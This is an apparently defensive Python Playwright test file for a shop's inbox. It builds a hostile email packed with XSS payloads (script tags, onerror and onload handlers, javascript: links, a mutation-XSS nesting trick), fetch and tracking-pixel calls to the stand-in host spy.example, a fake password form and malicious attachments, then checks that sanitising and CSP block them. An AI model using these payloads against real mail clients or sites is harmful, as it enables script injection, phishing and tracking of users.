"""Mail that means harm: it is read like any other, and nothing in it runs, calls out or covers the page."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Route, expect

from tests.journeys.shop import Shop
from tests.parts.browser import OpenPage
from tests.parts.cast import NOON, SHOP

SPY = "spy.example"
# Each of these calls out or opens a dialog when it is let.
HTML = f"""<html><head><base href="https://{SPY}/"><meta http-equiv="refresh" content="0;url=https://{SPY}/gone">
<link rel="stylesheet" href="https://{SPY}/a.css"><link rel="dns-prefetch" href="//{SPY}">
<style>@import url(https://{SPY}/b.css); body {{ background: url(https://{SPY}/c.png) }}</style></head>
<body onload="alert(1)" background="https://{SPY}/d.png">
<p>The burger was <b>cold</b>.</p>
<script>alert(2); fetch("https://{SPY}/e"); parent.document.title = "taken over"</script>
<img src="https://{SPY}/pixel.png" width="1" height="1" alt="a picture">
<img src=x onerror="alert(3)"><img src="/inbox/?from=mail" onerror="alert(4)">
<svg onload="alert(5)"><image href="https://{SPY}/f.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="alert(6)"></style></mglyph></table></mtext></math>
<iframe src="https://{SPY}/g" srcdoc="<script>alert(7)</script>"></iframe>
<object data="https://{SPY}/h"></object><embed src="https://{SPY}/i"><video src="https://{SPY}/j" autoplay></video>
<form action="https://{SPY}/k" method="post"><input name="password" type="password" autofocus onfocus="alert(8)">
<button>Sign in again</button></form>
<a href="javascript:alert(9)">a trap</a> <a href="https://{SPY}/l" ping="https://{SPY}/m">a link</a>
<div style="position:fixed;inset:0;z-index:99999;background:url(https://{SPY}/n.png) red">Over everything</div>
<div style="background-image:url('https://{SPY}/o.png')">Painted</div>
<details open ontoggle="alert(10)"><summary>Open</summary></details>
<p id="main" class="shell" style="font-size:30px">Goodbye.</p></body></html>"""
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script></svg>'
PAGE = b"<script>alert('page')</script>"
TRAP = "<img src=x onerror=alert('name')>.html"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\nIDATx\x9cc\x00\x01\x00\x00\x05\x00\x01\r\n-\xb4\x00\x00\x00\x00IEND\xaeB`\x82"
)


def hostile_mail(subject: str) -> bytes:
    message = EmailMessage()
    message["From"] = '"<script>alert(0)</script>" <mallory@example.net>'
    message["To"] = SHOP
    message["Subject"] = f'{subject} <img src=x onerror="alert(11)">'
    message["Date"] = format_datetime(NOON)
    message.set_content("Plain <script>alert(12)</script> and javascript:alert(13) and \"quotes'.")
    message.add_alternative(HTML, subtype="html")
    message.add_attachment(SVG, maintype="image", subtype="svg+xml", filename="logo.svg")
    message.add_attachment(PAGE, maintype="text", subtype="html", filename=TRAP)
    message.add_attachment(PNG, maintype="image", subtype="png", filename="photo.png")
    message.add_attachment(PAGE, maintype="image", subtype="png", filename="not-a-picture.png")
    return message.as_bytes()


class Guard:
    """Notes whatever a browser was made to do: dialogs, and requests that get out to another server."""

    def __init__(self, context: BrowserContext, home: str) -> None:
        self.home = home
        self.dialogs: list[str] = []
        self.calls: list[str] = []
        context.on("dialog", self._dialog)
        # What the page's policy forbids does not come as far as this.
        context.route(lambda url: url.startswith("http") and not url.startswith(home), self._call)

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _call(self, route: Route) -> None:
        self.calls.append(route.request.url)
        route.fulfill(status=200, content_type="image/png", body=PNG)


Opened = tuple[Page, Guard]


@pytest.fixture
def opened(shop: Shop, open_page: OpenPage) -> Iterator[Callable[[str], Opened]]:
    """Hana opens the hostile mail with the subject, and everything that is folded in it."""
    guards: list[Guard] = []

    def open_mail(subject: str) -> Opened:
        shop.receive(hostile_mail(subject))
        page = shop.page_of("Hana", open_page)
        guards.append(Guard(page.context, shop.desk.url))
        page.add_init_script(
            "window.broken = []; addEventListener('securitypolicyviolation', (e) => broken.push(e.blockedURI))"
        )
        page.goto("/inbox/")
        page.get_by_role("link", name=subject).click()
        expect(page.get_by_role("log")).to_contain_text("and javascript:alert(13)")
        page.locator("summary", has_text="As it was sent").click()
        expect(page.frame_locator("iframe").get_by_text("The burger was cold.")).to_be_visible()
        return page, guards[-1]

    yield open_mail
    for guard in guards:
        assert guard.dialogs == [], "something of the mail ran"


def test_nothing_in_it_runs_and_nobody_is_called(opened: Callable[[str], Opened]) -> None:
    page, guard = opened("Poison")
    letter = page.frame_locator("iframe")
    expect(letter.get_by_text("Goodbye.")).to_be_visible()
    expect(letter.locator("form, input, button, script, svg, iframe, object, video, link")).to_have_count(0)
    page.mouse.move(640, 360)
    page.wait_for_timeout(1000)  # what runs late runs by now

    assert guard.calls == [], "the mail called out before anybody asked for its pictures"
    assert page.evaluate("window.broken") == []
    assert page.frames[-1].evaluate("document.documentElement.outerHTML").count(SPY) <= 4, (
        "only what one may click"
    )
    assert "taken over" not in page.title()
    assert page.get_by_role("log").locator("script, img[onerror]").count() == 0


def test_nothing_in_it_covers_the_page(opened: Callable[[str], Opened]) -> None:
    page, _guard = opened("Cover")
    cover = page.frame_locator("iframe").get_by_text("Over everything")
    assert cover.evaluate("(it) => getComputedStyle(it).position") == "static"
    page.get_by_role("textbox", name="Your words").click()
    page.get_by_role("link", name="Today").click()
    page.wait_for_url("**/")


def test_pictures_from_outside_come_after_the_click_and_only_then(opened: Callable[[str], Opened]) -> None:
    page, guard = opened("Pixel")
    assert guard.calls == []
    page.get_by_role("link", name="Show pictures from outside").click()
    picture = page.frame_locator("iframe").get_by_role("img", name="a picture")
    expect(picture).to_have_attribute("src", f"https://{SPY}/pixel.png")
    page.wait_for_function("document.querySelector('iframe').contentDocument.images[0].complete")
    assert guard.calls == [f"https://{SPY}/pixel.png"], "the one picture that was asked for, and nothing else"


def test_links_leave_in_a_window_of_their_own_that_knows_nothing(opened: Callable[[str], Opened]) -> None:
    page, guard = opened("Links")
    letter = page.frame_locator("iframe")
    expect(letter.get_by_text("a trap")).not_to_have_attribute("href", "javascript:alert(9)")
    with page.context.expect_page() as opening:
        letter.get_by_role("link", name="a link").click()
    outside = opening.value
    outside.wait_for_load_state()
    assert outside.url == f"https://{SPY}/l"
    assert outside.evaluate("window.opener") is None
    assert outside.evaluate("document.referrer") == ""
    assert guard.calls == [f"https://{SPY}/l"], "the link, and no ping"
    assert page.url.startswith(guard.home)


def test_its_files_are_saved_and_never_opened_as_pages(shop: Shop, opened: Callable[[str], Opened]) -> None:
    page, guard = opened("Papers")
    for name, content in (("logo.svg", SVG), (TRAP, PAGE)):
        with page.expect_download() as downloading:
            page.get_by_role("link", name=name).click()
        assert Path(downloading.value.path()).read_bytes() == content
        assert not {"<", ">", "/"} & set(downloading.value.suggested_filename)

    # Even at its own address: an SVG, a page, and a page that says it is a picture.
    addresses = (
        page.get_by_role("log")
        .locator("a[href^='/attachments/']")
        .evaluate_all("(links) => links.map((link) => link.getAttribute('href'))")
    )
    assert len(addresses) == 4
    for address in addresses:
        answer = page.request.get(address)
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'; sandbox" in answer.headers["content-security-policy"]
        is_picture = answer.headers["content-type"] == "image/png"
        assert is_picture or answer.headers["content-type"] == "application/octet-stream"
        assert is_picture or answer.headers["content-disposition"].startswith("attachment")
    assert guard.calls == []


def test_the_letter_alone_in_a_window_runs_nothing_either(
    shop: Shop, opened: Callable[[str], Opened]
) -> None:
    page, guard = opened("Alone")
    address = page.locator("iframe").get_attribute("src")
    assert address
    page.goto(address)
    expect(page.get_by_text("Goodbye.")).to_be_visible()
    page.wait_for_timeout(500)
    assert guard.calls == []
    answer = page.request.get(address)
    assert "sandbox" in answer.headers["content-security-policy"]
    assert "script" not in answer.headers["content-security-policy"]


def test_what_got_past_the_sanitiser_would_run_nothing_either(
    shop: Shop, open_page_on_a_bad_line: OpenPage
) -> None:
    """The second line: the letter as it was sent, untouched, behind its policy alone."""
    conversation = shop.hear_from("Mallory <mallory@example.net>", "Untouched", "Hello.")
    shop.do("put_html", subject="Untouched", html=HTML.replace('<meta http-equiv="refresh"', "<meta"))
    page = shop.page_of("Hana", open_page_on_a_bad_line)
    guard = Guard(page.context, shop.desk.url)
    page.goto(f"/inbox/{conversation}/")
    page.locator("summary", has_text="As it was sent").click()
    expect(page.frame_locator("iframe").get_by_text("Goodbye.")).to_be_visible()
    page.wait_for_timeout(1000)
    assert guard.dialogs == []
    assert guard.calls == []
    assert "taken over" not in page.title()


def test_its_words_are_words_everywhere_else(shop: Shop, opened: Callable[[str], Opened]) -> None:
    page, guard = opened("Words")
    for address in ("/", "/inbox/", "/search/?q=Words", f"/customers/{shop_customer(shop)}/"):
        page.goto(address)
        expect(page.get_by_role("main")).to_be_visible()
    assert guard.calls == []


def shop_customer(shop: Shop) -> int:
    return int(shop.talk('Words <img src=x onerror="alert(11)">')["customer"])
